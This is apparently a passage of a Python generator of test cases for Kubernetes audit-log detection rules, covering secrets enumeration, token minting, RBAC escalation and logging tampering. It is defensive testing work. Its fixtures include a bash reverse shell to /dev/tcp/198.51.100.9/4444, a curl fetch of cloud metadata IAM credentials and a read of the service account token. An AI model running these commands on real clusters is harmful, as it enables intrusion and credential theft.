     ev("create", "selfsubjectrulesreviews", code=201, req={"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "default"}}),
     [exp("rbac-permissions-enumerated", 0, "low", "alice|alice|selfsubjectrulesreviews", user="alice", review="selfsubjectrulesreviews", review_namespace="default")])
case("a workload's service account asks whether it may read secrets (v1beta1)", "rbac-permissions-enumerated",
     ev("create", "selfsubjectaccessreviews", user=SA("shop", "web"), groups=SA_GROUPS("shop"), code=201, api="v1beta1", src="10.244.1.17",
        req={"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"namespace": "shop", "verb": "get", "resource": "secrets"}}}),
     [exp("rbac-permissions-enumerated", 0, "medium", user=SA("shop", "web"), question="get secrets", review_namespace="shop")])
case("a person's single can-i check (dashboards do it all day), a lone RequestReceived, the scheduler's SubjectAccessReview: nothing", "rbac-permissions-enumerated",
     [ev("create", "selfsubjectaccessreviews", code=201, req={"spec": {"resourceAttributes": {"verb": "create", "resource": "deployments", "namespace": "shop"}}}),
      ev("create", "selfsubjectrulesreviews", stage="RequestReceived"),
      ev("create", "subjectaccessreviews", user="system:kube-scheduler", groups=["system:authenticated"], code=201, api_group="authorization.k8s.io",
         uri="/apis/authorization.k8s.io/v1/subjectaccessreviews")], [])

# ---------------------------------------------------------------- secrets enumeration
case("secrets listed across all namespaces are high", "secrets-enumerated",
     ev("list", "secrets", user="mallory", query="limit=500"),
     [exp("secrets-enumerated", 0, "high", "mallory||list", "Secrets listed in all namespaces", user="mallory", scope="all namespaces")])
case("secrets watched in one namespace with a label selector (v1beta1)", "secrets-enumerated",
     ev("watch", "secrets", user="bob", ns="shop", api="v1beta1", query="labelSelector=app%3Dweb"),
     [exp("secrets-enumerated", 0, "medium", "bob|shop|watch", "Secrets watched in shop", label_selector="app=web", verb="watch")])
case("secrets listed in kube-system are high", "secrets-enumerated",
     ev("list", "secrets", ns="kube-system"),
     [exp("secrets-enumerated", 0, "high", scope="kube-system")])
case("the API server's watch, one secret read, a refused listing: no enumeration", "secrets-enumerated",
     [ev("watch", "secrets", user="system:apiserver", groups=["system:masters"]),
      ev("get", "secrets", ns="shop", name="db-credentials"),
      ev("list", "secrets", ns="shop", code=403)],
     [exp("request-forbidden", 2, "low")])

# ---------------------------------------------------------------- forbidden
case("alice is refused the secrets of kube-system", "request-forbidden",
     ev("get", "secrets", ns="kube-system", name="bootstrap-token-abcdef", code=403,
        message='secrets "bootstrap-token-abcdef" is forbidden: User "alice" cannot get resource "secrets" in API group "" in the namespace "kube-system"'),
     [exp("request-forbidden", 0, "low", "alice|get|secrets|kube-system", user="alice", groups="developers,system:authenticated",
          message='secrets "bootstrap-token-abcdef" is forbidden: User "alice" cannot get resource "secrets" in API group "" in the namespace "kube-system"',
          request_uri="/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef")])
case("a service account refused (v1beta1, counted once at ResponseComplete) is medium", "request-forbidden",
     stages(verb="list", resource="pods", user=SA("shop", "web"), groups=SA_GROUPS("shop"), code=403, api="v1beta1", src="10.244.1.17"),
     [exp("request-forbidden", 1, "medium", user=SA("shop", "web"), verb="list", resource="pods")])
case("the scheduler refused at start-up, a 404, a lone RequestReceived: nothing", "request-forbidden",
     [ev("list", "pods", user="system:kube-scheduler", groups=["system:authenticated"], code=403),
      ev("get", "pods", ns="shop", name="gone", code=404),
      ev("get", "secrets", ns="kube-system", stage="RequestReceived")], [])

# ---------------------------------------------------------------- unauthenticated
def unauth(**kw):
    e = ev("list", "secrets", user=None, groups=(), stage="ResponseStarted", code=401, src="198.51.100.23",
           ua="python-requests/2.31.0", message="Unauthorized", uri="/api/v1/namespaces/kube-system/secrets", **kw)
    del e["objectRef"]
    e["verb"] = "list"
    return e
u1 = unauth()
case("a request with a bad token is logged once, at ResponseStarted", "request-unauthenticated", u1,
     [exp("request-unauthenticated", 0, "low", "198.51.100.23|python-requests/2.31.0", source_ip="198.51.100.23",
          user_agent="python-requests/2.31.0", request_uri="/api/v1/namespaces/kube-system/secrets", message="Unauthorized", response_code="401")])
u2 = unauth(api="v1beta1"); u3 = json.loads(json.dumps(u2)); u3["stage"] = "ResponseComplete"
case("the same failed request logged at two stages counts once (v1beta1)", "request-unauthenticated", [u2, u3],
     [exp("request-unauthenticated", 0, "low")])
case("an anonymous health probe answered 200 and a request still at RequestReceived are no failure", "request-unauthenticated",
     [ev("get", "", user="system:anonymous", groups=["system:unauthenticated"], uri="/readyz", ua="kube-probe/1.29", src="172.18.0.2"),
      ev("get", "secrets", stage="RequestReceived", ns="shop")], [])

# ---------------------------------------------------------------- system namespace pods
case("a pod named like kube-proxy's, created by a person in kube-system", "system-pod-masquerade",
     ev("create", "pods", user="mallory", ns="kube-system", name="kube-proxy-x7k2p", code=201),
     [exp("system-pod-masquerade", 0, "high", "mallory|kube-system|kube-proxy-x7k2p", "Pod kube-system/kube-proxy-x7k2p created by mallory with a system pod's name",
          pod="kube-proxy-x7k2p", imitates_system_pod="true")])
case("a pod run with a controller's service account (v1beta1)", "system-pod-masquerade",
     ev("create", "pods", user="bob", ns="kube-system", name="tools", code=201, api="v1beta1",
        req=pod("tools", "kube-system", [ctr("sh", "alpine:3.19")], sa="clusterrole-aggregation-controller")),
     [exp("system-pod-masquerade", 0, "high", service_account="clusterrole-aggregation-controller", controller_service_account="true", image="alpine:3.19")])
case("an ordinary-looking pod in kube-system (the Falco pack's pod-created-in-kube-namespace) poses as nothing", "system-pod-masquerade",
     ev("create", "pods", user="bob", ns="kube-system", name="netcheck", code=201,
        req=pod("netcheck", "kube-system", [ctr("sh", "alpine:3.19")], sa="default")), [])
case("the DaemonSet controller creating kube-proxy pods, a pod in another namespace, a refused create: nothing", "system-pod-masquerade",
     [ev("create", "pods", user=SA("kube-system", "daemon-set-controller"), groups=SA_GROUPS("kube-system"), ns="kube-system", name="kube-proxy-abcde", code=201),
      ev("create", "pods", user="bob", ns="shop", name="netcheck", code=201),
      ev("create", "pods", user="bob", ns="kube-system", name="netcheck", code=403)],
     [exp("request-forbidden", 2, "low", user="bob")])

# ---------------------------------------------------------------- token requests
TOKEN_REQ = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 315360000}}
case("mallory mints a ten-year token for a kube-system controller's service account", "serviceaccount-token-created",
     ev("create", "serviceaccounts", user="mallory", ns="kube-system", name="clusterrole-aggregation-controller", sub="token", code=201, req=TOKEN_REQ),
     [exp("serviceaccount-token-created", 0, "high", "mallory|kube-system|clusterrole-aggregation-controller",
          "mallory minted a token for kube-system/clusterrole-aggregation-controller", service_account="kube-system/clusterrole-aggregation-controller",
          expiration_seconds="315360000", audiences="https://kubernetes.default.svc")])
case("a CI service account mints a token for another one (v1beta1 Metadata)", "serviceaccount-token-created",
     ev("create", "serviceaccounts", user=SA("shop", "ci"), groups=SA_GROUPS("shop"), ns="shop", name="deployer", sub="token", code=201, api="v1beta1"),
     [exp("serviceaccount-token-created", 0, "medium", user=SA("shop", "ci"), service_account="shop/deployer")])
case("kubelets projecting pod tokens, a service account refreshing its own, a refused request", "serviceaccount-token-created",
     [ev("create", "serviceaccounts", user="system:node:kind-worker", groups=["system:nodes"], ns="shop", name="web", sub="token", code=201,
         req={"spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607, "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": "web-7d4b9c-x2x9q"}}}),
      ev("create", "serviceaccounts", user=SA("shop", "web"), groups=SA_GROUPS("shop"), ns="shop", name="web", sub="token", code=201),
      ev("create", "serviceaccounts", user="mallory", ns="kube-system", name="replicaset-controller", sub="token", code=403)],
     [exp("request-forbidden", 2, "low", user="mallory")])

# ---------------------------------------------------------------- user agents
case("a stolen service account token used with curl", "suspicious-user-agent",
     ev("get", "secrets", user=SA("shop", "web"), groups=SA_GROUPS("shop"), ns="shop", name="db-credentials", ua="curl/8.5.0", src="10.244.1.17"),
     [exp("suspicious-user-agent", 0, "medium", "system:serviceaccount:shop:web|curl/8.5.0|10.244.1.17", "API request from curl/8.5.0",
          matched="curl/", user_agent="curl/8.5.0", user=SA("shop", "web"))])
case("kube-hunter probing anonymously: the tool and the refusal (v1beta1)", "suspicious-user-agent",
     ev("list", "pods", user="system:anonymous", groups=["system:unauthenticated"], code=403, api="v1beta1", ua="kube-hunter/0.6.8", src="198.51.100.23"),
     [exp("suspicious-user-agent", 0, "medium", matched="kube-hunter"),
      exp("request-forbidden", 0, "medium", user="system:anonymous")])
case("curl asking the API server's version (not a health check) is reconnaissance", "suspicious-user-agent",
     ev("get", "", user="system:anonymous", groups=["system:unauthenticated"], uri="/version", ua="curl/8.5.0", src="198.51.100.23"),
     [exp("suspicious-user-agent", 0, "medium", matched="curl/", request_uri="/version", user="system:anonymous")])
case("tools are reported even under a control-plane identity (a stolen kube-proxy token)", "suspicious-user-agent",
     ev("list", "nodes", user=SA("kube-system", "kube-proxy"), groups=SA_GROUPS("kube-system"), ua="Python-urllib/3.11", src="198.51.100.23"),
     [exp("suspicious-user-agent", 0, "medium", matched="python-urllib")])
case("kubectl, kube-probe, a load balancer's curl health check and a request still at RequestReceived are not tools", "suspicious-user-agent",
     [ev("list", "pods", ns="shop"),
      ev("get", "", user="system:anonymous", groups=["system:unauthenticated"], uri="/healthz", ua="kube-probe/1.29", src="172.18.0.2"),
      ev("get", "", user="system:anonymous", groups=["system:unauthenticated"], uri="/readyz?verbose", ua="curl/7.88.1", src="10.0.0.4"),
      ev("list", "pods", ns="shop", ua="curl/8.5.0", stage="RequestReceived")], [])
case("the operator's list replaces the default", "suspicious-user-agent",
     [ev("list", "pods", ns="shop", ua="curl/8.5.0"), ev("list", "pods", ns="shop", ua="Go-http-client/1.1")],
     [exp("suspicious-user-agent", 1, "medium", matched="go-http-client")], config={"suspicious_user_agents": "Go-http-client"})

# ---------------------------------------------------------------- logging tampering
case("the fluent-bit DaemonSet is deleted", "logging-tampered",
     ev("delete", "daemonsets", user="mallory", ns="logging", name="fluent-bit"),
     [exp("logging-tampered", 0, "high", "mallory|daemonsets|logging|fluent-bit", "Deleted DaemonSet logging/fluent-bit", component="fluent-bit", tampering="workload")])
case("elastic-agent scaled to zero (v1beta1)", "logging-tampered",
     ev("patch", "deployments", user="mallory", ns="elastic", name="elastic-agent", sub="scale", api="v1beta1", req={"spec": {"replicas": 0}}),
     [exp("logging-tampered", 0, "high", title="Scaled to zero Deployment elastic/elastic-agent", tampering="scaled to zero", resource="deployments/scale")])
case("the audit policy ConfigMap rewritten, the falco namespace deleted", "logging-tampered",
     [ev("update", "configmaps", user="mallory", ns="kube-system", name="audit-policy"),
      ev("delete", "namespaces", user="mallory", name="falco")],
     [exp("logging-tampered", 0, "high", tampering="configuration", component="audit-policy"),
      exp("logging-tampered", 1, "high", tampering="namespace", component="falco")])
case("an app deleted, fluent-bit scaled up, a Metadata-level scale, a refused delete: nothing", "logging-tampered",
     [ev("delete", "daemonsets", user="bob", ns="shop", name="web-agent"),
      ev("patch", "deployments", user="bob", ns="elastic", name="elastic-agent", sub="scale", req={"spec": {"replicas": 3}}),
      ev("patch", "deployments", user="bob", ns="elastic", name="elastic-agent", sub="scale"),
      ev("delete", "daemonsets", user="bob", ns="logging", name="fluent-bit", code=403)],
     [exp("request-forbidden", 3, "low", user="bob")])

# ---------------------------------------------------------------- escalation flags
case("a pod allowing privilege escalation", "privilege-escalation-flags",
     ev("create", "pods", ns="shop", name="legacy", code=201, req=pod("legacy", "shop", [ctr("app", "legacy/app:3", sc={"allowPrivilegeEscalation": True, "runAsUser": 0})])),
     [exp("privilege-escalation-flags", 0, "medium", container="app", flags="app: allowPrivilegeEscalation=true,runAsUser=0", image="legacy/app:3")])
case("a running Deployment patched to allow escalation (v1beta1)", "privilege-escalation-flags",
     ev("patch", "deployments", user="mallory", ns="shop", name="web", api="v1beta1",
        req={"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"allowPrivilegeEscalation": True}}]}}}}),
     [exp("privilege-escalation-flags", 0, "medium", "shop|web|web: allowPrivilegeEscalation=true|", flags="web: allowPrivilegeEscalation=true", user="mallory")])
case("a Job whose pod runs as root (pod-level runAsUser 0)", "privilege-escalation-flags",
     ev("create", "jobs", user="bob", ns="shop", name="migrate", code=201,
        req={"kind": "Job", "spec": {"template": {"spec": {"securityContext": {"runAsUser": 0}, "containers": [ctr("migrate", "shop/migrate:7")]}}}}),
     [exp("cronjob-changed", 0, "medium", kind="Job"),
      exp("privilege-escalation-flags", 0, "medium", pod_run_as_user="0", user="bob")])
case("privileged pods and workloads (the Falco pack's), a Metadata-level patch, a non-root pod: nothing here", "privilege-escalation-flags",
     [ev("create", "pods", ns="shop", name="priv", code=201, req=pod("priv", "shop", [ctr("app", "alpine:3.19", sc={"privileged": True})])),
      ev("patch", "deployments", user="mallory", ns="shop", name="web", req={"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"privileged": True}}]}}}}),
      ev("patch", "deployments", user="mallory", ns="shop", name="web"),
      ev("create", "pods", ns="shop", name="safe", code=201, req=pod("safe", "shop", [ctr("app", "alpine:3.19", sc={"allowPrivilegeEscalation": False, "runAsUser": 1000})]))], [])

# ---------------------------------------------------------------- hostPath
case("a pod mounting the node's /var/log read-only", "hostpath-volume",
     ev("create", "pods", ns="shop", name="log-reader", code=201,
        req=pod("log-reader", "shop", [ctr("app", "alpine:3.19", mounts=[{"name": "logs", "mountPath": "/host/log", "readOnly": True}])],
                volumes=[{"name": "logs", "hostPath": {"path": "/var/log", "type": "Directory"}}])),
     [exp("hostpath-volume", 0, "low", "shop|log-reader|/var/log", "Pod shop/log-reader mounts host path /var/log",
          host_paths="/var/log", mounts="app:/host/log (ro)", image="alpine:3.19")])
case("a DaemonSet mounting the node's root (v1beta1)", "hostpath-volume",
     ev("create", "daemonsets", user="mallory", ns="shop", name="node-helper", code=201, api="v1beta1",
        req=workload("DaemonSet", "node-helper", "shop", {"containers": [ctr("helper", "alpine:3.19", mounts=[{"name": "root", "mountPath": "/host"}])],
                                                           "volumes": [{"name": "root", "hostPath": {"path": "/"}}]})),
     [exp("hostpath-volume", 0, "low", host_paths="/", mounts="helper:/host (rw)", user="mallory")])
case("emptyDir volumes, a Metadata-level create, kube-system's own DaemonSet pods: nothing", "hostpath-volume",
     [ev("create", "pods", ns="shop", name="cache", code=201, req=pod("cache", "shop", [ctr("app", "redis:7")], volumes=[{"name": "d", "emptyDir": {}}])),
      ev("create", "pods", ns="shop", name="log-reader", code=201),
      ev("create", "pods", user=SA("kube-system", "daemon-set-controller"), groups=SA_GROUPS("kube-system"), ns="kube-system", name="kube-proxy-abcde", code=201,
         req=pod("kube-proxy-abcde", "kube-system", [ctr("kube-proxy", "registry.k8s.io/kube-proxy:v1.29.2")], volumes=[{"name": "lib-modules", "hostPath": {"path": "/lib/modules"}}]))], [])

# ---------------------------------------------------------------- exec commands
from urllib.parse import quote_plus
def exec_uri(ns, pod, words, container="web"):
    q = "&".join("command=" + quote_plus(w) for w in words)
    return "/api/v1/namespaces/%s/pods/%s/exec?%s&container=%s&stdin=true&stdout=true&tty=true" % (ns, pod, q, container)
case("a reverse shell through kubectl exec (101 Switching Protocols, counted once)", "suspicious-exec-command",
     stages(verb="create", resource="pods", user="mallory", ns="shop", name="web-7d4b9c-x2x9q", sub="exec", code=101,
            uri=exec_uri("shop", "web-7d4b9c-x2x9q", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"])),
     [exp("suspicious-exec-command", 1, "high", "mallory|shop|web-7d4b9c-x2x9q|bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
          "Reverse shell in pod shop/web-7d4b9c-x2x9q", activity="reverse-shell", container="web",
          command="bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", pod="web-7d4b9c-x2x9q", response_code="101")])
case("instance credentials fetched from the cloud metadata service (v1beta1, websocket get)", "suspicious-exec-command",
     ev("get", "pods", user="bob", ns="shop", name="api-0", sub="exec", code=101, api="v1beta1",
        uri=exec_uri("shop", "api-0", ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"], "api")),
     [exp("suspicious-exec-command", 0, "high", title="Cloud metadata read in pod shop/api-0", activity="cloud-metadata,download", container="api")])
case("the service account token read, and a compiler run (medium on its own)", "suspicious-exec-command",
     [ev("create", "pods", user="mallory", ns="shop", name="api-0", sub="exec", code=101,
         uri=exec_uri("shop", "api-0", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "api")),
      ev("create", "pods", user="mallory", ns="shop", name="api-0", sub="exec", code=101,
         uri=exec_uri("shop", "api-0", ["sh", "-c", "gcc -o /tmp/x /tmp/x.c"], "api"))],
     [exp("suspicious-exec-command", 0, "high", activity="credential-file"),
      exp("suspicious-exec-command", 1, "medium", title="Compiler in pod shop/api-0", activity="compiler")])
case("an interactive shell, a local health check, a refused exec: nothing", "suspicious-exec-command",
     [ev("create", "pods", ns="shop", name="web-7d4b9c-x2x9q", sub="exec", code=101, uri=exec_uri("shop", "web-7d4b9c-x2x9q", ["bash"])),
      ev("create", "pods", ns="shop", name="web-7d4b9c-x2x9q", sub="exec", code=101,
         uri=exec_uri("shop", "web-7d4b9c-x2x9q", ["sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz"])),
      ev("create", "pods", user="mallory", ns="shop", name="web-7d4b9c-x2x9q", sub="exec", code=403,
         uri=exec_uri("shop", "web-7d4b9c-x2x9q", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]))],
     [exp("request-forbidden", 2, "low", user="mallory")])

# ---------------------------------------------------------------- critical configmaps
AWS_AUTH = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "aws-auth", "namespace": "kube-system"},
            "data": {"mapRoles": "- rolearn: arn:aws:iam::111122223333:role/eks-nodes\n  username: system:node:{{EC2PrivateDNSName}}\n  groups: [system:bootstrappers, system:nodes]\n",
                     "mapUsers": "- userarn: arn:aws:iam::444455556666:user/contractor\n  username: contractor\n  groups: [system:masters]\n"}}
case("aws-auth rewritten to map a foreign IAM user into system:masters", "critical-configmap-changed",
     ev("update", "configmaps", user="mallory", ns="kube-system", name="aws-auth", req=AWS_AUTH),
     [exp("critical-configmap-changed", 0, "high", "mallory|kube-system|aws-auth", "Updated ConfigMap kube-system/aws-auth",
          configmap="aws-auth", data_keys="mapRoles,mapUsers", user="mallory")])
case("CoreDNS's Corefile patched (v1beta1, Metadata)", "critical-configmap-changed",
     ev("patch", "configmaps", user="bob", ns="kube-system", name="coredns", api="v1beta1"),
     [exp("critical-configmap-changed", 0, "high", title="Patched ConfigMap kube-system/coredns", configmap="coredns")])
case("an app's ConfigMap changed, CoreDNS's read, the root CA publisher updating its ConfigMap, a refused update: nothing", "critical-configmap-changed",
     [ev("update", "configmaps", user="bob", ns="shop", name="web-config"),
      ev("get", "configmaps", user="bob", ns="kube-system", name="coredns"),
      ev("update", "configmaps", user=SA("kube-system", "root-ca-cert-publisher"), groups=SA_GROUPS("kube-system"), ns="shop", name="kube-root-ca.crt"),
      ev("update", "configmaps", user="mallory", ns="kube-system", name="aws-auth", code=403)],
     [exp("request-forbidden", 3, "low", user="mallory")])

# ---------------------------------------------------------------- shipper shapes
def elastic_agent(e):
    e = json.loads(json.dumps(e))
    e["annotations"] = {k.replace(".", "_"): v for k, v in e.get("annotations", {}).items()}
    return {"@timestamp": e["stageTimestamp"], "data_stream": {"dataset": "kubernetes.audit_logs"},
            "event": {"dataset": "kubernetes.audit_logs"}, "kubernetes": {"audit": e}}
def fluent_bit(e):
    return {"@timestamp": e["stageTimestamp"], "log": json.dumps(e), "kubernetes": {"host": "kind-control-plane"}}
case("a privileged CSR shipped by Elastic Agent (under kubernetes.audit, annotation keys with _)", "csr-privileged-identity",
     elastic_agent(ev("create", "certificatesigningrequests", user="mallory", name="mallory-admin-2", code=201, req=csr("mallory-admin-2", CSR_MASTERS))),
     [exp("csr-privileged-identity", 0, "critical", subject_o="system:masters", user="mallory", csr="mallory-admin-2")])
case("a kubelet proxy request inside a Fluent Bit log field", "node-proxy",
     fluent_bit(ev("get", "nodes", user="mallory", name="kind-worker2", sub="proxy", uri="/api/v1/nodes/kind-worker2/proxy/configz")),
     [exp("node-proxy", 0, "medium", kubelet_path="/configz", node="kind-worker2")])
case("a forbidden request shipped by Elastic Agent is still counted once", "request-forbidden",
     [elastic_agent(x) for x in stages(verb="get", resource="secrets", user="mallory", ns="kube-system", name="bootstrap-token-abcdef", code=403)],
     [exp("request-forbidden", 1, "low", user="mallory")])

# ---------------------------------------------------------------- bindings
def binding(kind, name, ns, role_kind, role, subjects):
    o = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind, "metadata": {"name": name},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": role_kind, "name": role},
         "subjects": [dict(s, apiGroup="rbac.authorization.k8s.io") if s["kind"] != "ServiceAccount" else s for s in subjects]}
    if ns: o["metadata"]["namespace"] = ns
    return o
PUBLIC = binding("ClusterRoleBinding", "public-read", "", "ClusterRole", "view", [{"kind": "Group", "name": "system:unauthenticated"}])
case("a ClusterRole granted to unauthenticated users", "binding-to-everyone",
     ev("create", "clusterrolebindings", user="bob", name="public-read", code=201, req=PUBLIC),
     [exp("binding-to-everyone", 0, "high", "bob|clusterrolebindings||public-read", "Created ClusterRoleBinding public-read",
          role="ClusterRole/view", subjects="Group:system:unauthenticated", everyone_subjects="Group:system:unauthenticated", binding="public-read")])
case("system:anonymous patched into a namespace's admin binding (v1beta1)", "binding-to-everyone",
     ev("patch", "rolebindings", user="mallory", ns="shop", name="shop-admins", api="v1beta1",
        req={"subjects": [{"kind": "Group", "name": "shop-admins", "apiGroup": "rbac.authorization.k8s.io"},
                          {"kind": "User", "name": "system:anonymous", "apiGroup": "rbac.authorization.k8s.io"}]}),
     [exp("binding-to-everyone", 0, "high", title="Patched RoleBinding shop/shop-admins", everyone_subjects="User:system:anonymous",
          subjects="Group:shop-admins, User:system:anonymous")])
case("a binding to a team, one at Metadata level, the API server's own bootstrap bindings: nothing", "binding-to-everyone",
     [ev("create", "rolebindings", user="bob", ns="shop", name="devs-edit", code=201,
         req=binding("RoleBinding", "devs-edit", "shop", "ClusterRole", "edit", [{"kind": "Group", "name": "developers"}])),
      ev("create", "clusterrolebindings", user="bob", name="public-read", code=201),
      ev("create", "clusterrolebindings", user="system:apiserver", groups=["system:masters"], name="system:public-info-viewer", code=201,
         req=binding("ClusterRoleBinding", "system:public-info-viewer", "", "ClusterRole", "system:public-info-viewer",
                     [{"kind": "Group", "name": "system:authenticated"}, {"kind": "Group", "name": "system:unauthenticated"}]))], [])

case("mallory adds herself to an existing binding", "binding-subjects-changed",
     ev("update", "rolebindings", user="mallory", ns="shop", name="deployers",
        req=binding("RoleBinding", "deployers", "shop", "Role", "deployer",
                    [{"kind": "ServiceAccount", "name": "ci", "namespace": "shop"}, {"kind": "User", "name": "mallory"}])),
     [exp("binding-subjects-changed", 0, "medium", "mallory|rolebindings|shop|deployers", "Updated RoleBinding shop/deployers",
          role="Role/deployer", subjects="ServiceAccount:shop/ci, User:mallory", user="mallory")])
case("a ClusterRoleBinding patched, Metadata level (v1beta1)", "binding-subjects-changed",
     ev("patch", "clusterrolebindings", user="bob", name="ops-admin", api="v1beta1"),
     [exp("binding-subjects-changed", 0, "medium", title="Patched ClusterRoleBinding ops-admin", binding="ops-admin")])
case("a new binding (the Falco pack's), a refused or conflicting update, the controller-manager's: nothing", "binding-subjects-changed",
     [ev("create", "rolebindings", user="bob", ns="shop", name="deployers", code=201),
      ev("update", "rolebindings", user="mallory", ns="shop", name="deployers", code=403),
      ev("update", "rolebindings", user="bob", ns="shop", name="deployers", code=409),
      ev("update", "clusterrolebindings", user="system:kube-controller-manager", groups=["system:authenticated"], name="system:controller:bootstrap-signer")],
     [exp("request-forbidden", 1, "low", user="mallory")])

# ---------------------------------------------------------------- objectRefs without apiGroup
# The API server writes apiGroup and apiVersion apart; converters and
# hand-written logs give `apiVersion: batch/v1`, or leave the group to the
# request URI. The host completes the group, so the rules matching on it hold.
def group_in_version(e):
    o = e["objectRef"]
    o["apiVersion"] = o.pop("apiGroup") + "/" + o["apiVersion"]
    return e

def group_in_uri_only(e):
    del e["objectRef"]["apiGroup"], e["objectRef"]["apiVersion"]
    return e

case("a CronJob and a CSR logged with the group in apiVersion, a CronJob with it only in the URI", "cronjob-changed",
     [group_in_version(ev("create", "cronjobs", user="mallory", ns="shop", name="cache-warmer", code=201, req=CRON)),
      group_in_version(ev("create", "certificatesigningrequests", name="alice-client", code=201, req=csr("alice-client", CSR_ALICE))),
      group_in_uri_only(ev("update", "cronjobs", user="bob", ns="shop", name="nightly-report"))],
     [exp("cronjob-changed", 0, "medium", title="Created CronJob shop/cache-warmer", kind="CronJob", schedule="*/1 * * * *"),
      exp("csr-created", 1, "medium", "alice|alice-client", csr="alice-client", subject_cn="alice"),
      exp("cronjob-changed", 2, "medium", title="Updated CronJob shop/nightly-report", kind="CronJob")])

# ---------------------------------------------------------------- service accounts writing RBAC
WEB_SA = SA("shop", "web")
ESCALATE = binding("ClusterRoleBinding", "web-admin", "", "ClusterRole", "cluster-admin",
                   [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}])
case("a workload's token binds its account to cluster-admin, widens a Role; a CI account deletes a ClusterRole", "service-account-rbac-write",
     [ev("create", "clusterrolebindings", user=WEB_SA, groups=SA_GROUPS("shop"), name="web-admin", code=201, req=ESCALATE),
      ev("patch", "roles", user=WEB_SA, groups=SA_GROUPS("shop"), ns="shop", name="web-reader"),
      ev("delete", "clusterroles", user=SA("ci", "deployer"), groups=SA_GROUPS("ci"), name="legacy-reader"),
      ev("deletecollection", "rolebindings", user=SA("ci", "deployer"), groups=SA_GROUPS("ci"), ns="shop")],
     [exp("service-account-rbac-write", 0, "medium", WEB_SA + "|clusterrolebindings||web-admin",
          "Created ClusterRoleBinding web-admin as " + WEB_SA, kind="ClusterRoleBinding", object="web-admin", user=WEB_SA),
      exp("service-account-rbac-write", 1, "medium", title="Patched Role shop/web-reader as " + WEB_SA, kind="Role", object="shop/web-reader"),
      exp("service-account-rbac-write", 2, "medium", title="Deleted ClusterRole legacy-reader as " + SA("ci", "deployer"), kind="ClusterRole"),
      exp("service-account-rbac-write", 3, "medium", title="Deleted every RoleBinding in shop as " + SA("ci", "deployer"), kind="RoleBinding")])
case("the control plane's controllers, a user, a GitOps account on the list, a dry run, a refused write: no RBAC alert", "service-account-rbac-write",
     [ev("update", "clusterroles", user=SA("kube-system", "clusterrole-aggregation-controller"), groups=SA_GROUPS("kube-system"), name="admin"),
      ev("delete", "rolebindings", user=SA("kube-system", "generic-garbage-collector"), groups=SA_GROUPS("kube-system"), ns="old-team", name="devs"),
      ev("create", "roles", user="bob", ns="shop", name="reader", code=201),
      ev("create", "rolebindings", user=SA("argocd", "argocd-application-controller"), groups=SA_GROUPS("argocd"), ns="shop", name="deployers", code=201),
      ev("create", "clusterrolebindings", user=WEB_SA, groups=SA_GROUPS("shop"), name="web-admin", code=201, req=ESCALATE, query="dryRun=All"),
      ev("create", "clusterrolebindings", user=WEB_SA, groups=SA_GROUPS("shop"), name="web-admin", code=403)],
     [exp("request-forbidden", 5, "medium", user=WEB_SA)],
     config={"rbac_writer_service_accounts": "system:serviceaccount:argocd:*"})

import os, sys
out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases.json")
with open(out, "w") as f:
    json.dump({"cases": cases}, f, indent=2, ensure_ascii=False)
    f.write("\n")
print(len(cases), "cases written to", out)
